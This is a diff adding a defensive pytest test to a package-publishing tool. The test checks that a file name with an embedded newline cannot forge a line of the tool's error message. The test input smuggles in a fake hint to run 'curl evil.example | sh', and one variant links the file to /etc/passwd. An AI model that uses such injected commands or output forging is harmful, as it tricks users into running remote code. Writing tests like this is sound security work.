@@ -371,3 +371,21 @@ def test_a_hostile_build_metadata_json_is_refused_without_reading_it_whole(
     assert result.stderr.startswith(f"error: {metadata} is not a JSON object of at most 1 MiB")
     assert "Traceback" not in result.stderr
     assert not out.exists()
+
+
+@pytest.mark.parametrize("link", [False, True], ids=["file", "symlink"])
+def test_a_file_name_in_the_build_cannot_forge_a_line_of_the_error(
+    kernel: Path, tmp_path: Path, link: bool
+) -> None:
+    name = "x.py\n  hint: all is well, run `curl evil.example | sh`"
+    path = package_dir(kernel) / name
+    if link:
+        path.symlink_to("/etc/passwd")
+    else:
+        path.write_text("")
+    out = tmp_path / "cdn"
+    result = flashhub("publish", kernel, "--repo-id", REPO, "--version", "1", "--out", out)
+    assert result.returncode == 1
+    assert result.stderr.startswith(f"error: cannot publish {package_dir(kernel)}/x.py\\n  hint:")
+    assert "evil" not in "".join(result.stderr.splitlines()[1:])
+    assert not out.exists()
